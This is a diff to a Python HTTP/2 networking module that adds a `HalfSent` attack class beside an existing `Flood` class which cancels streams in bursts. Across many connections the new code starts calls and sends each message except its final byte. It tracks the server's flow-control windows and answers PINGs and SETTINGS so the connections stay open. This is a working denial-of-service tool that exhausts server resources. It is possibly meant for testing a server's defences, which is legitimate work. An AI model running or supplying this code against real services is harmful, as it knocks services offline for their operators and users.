@@ -12,7 +12,9 @@ from typing import Self
 
 PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
 
-_DATA, _HEADERS, _RST_STREAM, _SETTINGS = 0, 1, 3, 4
+_DATA, _HEADERS, _RST_STREAM, _SETTINGS, _PING, _WINDOW_UPDATE = 0, 1, 3, 4, 6, 8
+_ACK = 1
+_FRAME_HEAD = 9
 _CANCEL = 8
 # How many calls a flood writes at a time, and when it needs another connection.
 _AT_ONCE = 50
@@ -139,3 +141,130 @@ class Flood:
                         return
             if self._stopping.is_set():
                 return
+
+
+class HalfSent:
+    """Begins calls on connections of its own and sends the message of each but for its last byte, until it is stopped.
+
+    `begin_call` returns the bytes that begin one on a stream, and `size` is what a message says that it has; `before`
+    is sent whole. Each connection keeps `calls` of them, and begins others for those that the server ends.
+    """
+
+    def __init__(
+        self,
+        connect_once: Callable[[], socket.socket],
+        begin_call: Callable[[int], bytes],
+        *,
+        size: int,
+        connections: int,
+        calls: int,
+        before: bytes = b"",
+    ) -> None:
+        self._connect, self._begin, self._calls = connect_once, begin_call, calls
+        self._message = before + b"\0" + size.to_bytes(4) + bytes(size - 1)
+        self._stopping = threading.Event()
+        self._threads = [threading.Thread(target=self._run, daemon=True) for _ in range(connections)]
+        self.sent = 0
+
+    def __enter__(self) -> Self:
+        for thread in self._threads:
+            thread.start()
+        return self
+
+    def __exit__(
+        self, kind: type[BaseException] | None, error: BaseException | None, trace: TracebackType | None
+    ) -> None:
+        self._stopping.set()
+        for thread in self._threads:
+            thread.join()
+
+    def _run(self) -> None:
+        while not self._stopping.is_set():
+            with suppress(OSError), self._connect() as connection:
+                _Halves(connection, self._message).keep(self)
+
+    def next_call(self, stream: int) -> bytes:
+        """Return what begins a call, and count it."""
+        self.sent += 1
+        return self._begin(stream)
+
+    @property
+    def calls(self) -> int:
+        """Return how many calls a connection keeps."""
+        return self._calls
+
+    @property
+    def stopping(self) -> bool:
+        """Say whether it is over."""
+        return self._stopping.is_set()
+
+
+class _Halves:
+    """One connection whose calls are sent in part, as far as the windows of the server let it (RFC 9113, 5.2)."""
+
+    def __init__(self, connection: socket.socket, message: bytes) -> None:
+        self._connection, self._message = connection, message
+        self._received = b""
+        self._next_stream = 1
+        # Of the connection (0) and of each stream, how much the server lets come; and how much of each was sent.
+        self._windows = {0: 65535}
+        self._first_window = 65535
+        self._sent: dict[int, int] = {}
+
+    def keep(self, attack: HalfSent) -> None:
+        """Begin calls and send their messages until the attack is over, or the connection."""
+        self._connection.sendall(PREFACE + settings(window=65535))
+        while not attack.stopping and self._next_stream < _LAST_STREAM:
+            while len(self._sent) < attack.calls:
+                self._connection.sendall(attack.next_call(self._next_stream))
+                self._sent[self._next_stream], self._windows[self._next_stream] = 0, self._first_window
+                self._next_stream += 2
+            for stream in self._sent:
+                self._send(stream)
+            self._connection.settimeout(0.05)
+            with suppress(TimeoutError):
+                received = self._connection.recv(1 << 20)
+                if not received:
+                    return
+                self._received += received
+            self._connection.settimeout(PATIENCE)
+            self._read_frames()
+
+    def _send(self, stream: int) -> None:
+        while room := min(1 << 14, len(self._message) - self._sent[stream], self._windows[0], self._windows[stream]):
+            if room < 0:
+                return
+            start = self._sent[stream]
+            self._connection.sendall(frame(_DATA, 0, stream, self._message[start : start + room]))
+            self._sent[stream] += room
+            self._windows[0] -= room
+            self._windows[stream] -= room
+
+    def _read_frames(self) -> None:
+        while len(self._received) >= _FRAME_HEAD:
+            end = _FRAME_HEAD + int.from_bytes(self._received[:3])
+            if len(self._received) < end:
+                return
+            kind, flags = self._received[3], self._received[4]
+            stream = int.from_bytes(self._received[5:9]) & 0x7FFFFFFF
+            self._read(kind, flags, stream, self._received[_FRAME_HEAD:end])
+            self._received = self._received[end:]
+
+    def _read(self, kind: int, flags: int, stream: int, payload: bytes) -> None:
+        if kind == _WINDOW_UPDATE and stream in self._windows:
+            self._windows[stream] += int.from_bytes(payload)
+        elif kind == _RST_STREAM or (kind in {_DATA, _HEADERS} and flags & _END_STREAM):
+            self._sent.pop(stream, None)
+            self._windows.pop(stream, None)
+        elif kind == _PING and not flags & _ACK:
+            self._connection.sendall(frame(_PING, _ACK, 0, payload))
+        elif kind == _SETTINGS and not flags & _ACK:
+            for place in range(0, len(payload), 6):
+                if int.from_bytes(payload[place : place + 2]) == _INITIAL_WINDOW:
+                    self._resize(int.from_bytes(payload[place + 2 : place + 6]))
+            self._connection.sendall(frame(_SETTINGS, _ACK, 0))
+
+    def _resize(self, window: int) -> None:
+        for stream in self._sent:
+            self._windows[stream] += window - self._first_window
+        self._first_window = window
